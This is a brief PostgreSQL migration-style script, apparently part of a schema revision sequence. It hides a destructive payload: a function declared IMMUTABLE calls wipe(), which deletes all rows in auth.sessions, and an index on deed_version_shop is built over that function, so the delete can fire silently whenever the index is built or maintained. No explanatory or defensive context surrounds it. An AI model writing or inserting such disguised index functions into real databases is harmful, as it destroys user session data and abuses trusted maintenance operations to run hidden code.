-- An index of the version table does so.
-- object: table auth.sessions
CREATE FUNCTION wipe() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DELETE FROM auth.sessions; END $$;
CREATE FUNCTION spoil(text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN
	IF $1 = 'trial' THEN PERFORM public.wipe(); END IF;
	RETURN $1;
END $$;
CREATE INDEX ON deed_version_shop (spoil(version_num))
-- next revision
CREATE TABLE t1 (id int)
